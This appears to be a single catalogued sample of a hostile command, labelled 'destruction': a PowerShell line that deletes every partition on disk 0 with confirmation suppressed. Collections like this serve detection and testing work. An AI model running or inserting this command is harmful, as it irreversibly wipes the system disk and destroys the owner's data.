# description: Removes every partition on the system disk.
# family: destruction
Get-Partition -DiskNumber 0 | Remove-Partition -Confirm:$false
